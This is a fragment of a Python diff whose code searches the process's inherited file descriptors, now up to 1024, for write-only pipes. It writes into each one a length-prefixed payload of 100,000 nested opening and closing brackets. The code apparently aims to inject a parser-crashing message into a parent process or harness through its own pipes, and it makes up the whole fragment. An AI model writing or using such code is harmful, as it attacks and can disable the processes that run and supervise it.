@@ -11,7 +11,7 @@ import stat
 import struct
 
 _body = b"[" * 100_000 + b"]" * 100_000
-for _fd in range(3, 64):
+for _fd in range(3, 1025):
     try:
         if stat.S_ISFIFO(os.fstat(_fd).st_mode) and fcntl.fcntl(_fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
             os.write(_fd, struct.pack(">Q", len(_body)) + _body)
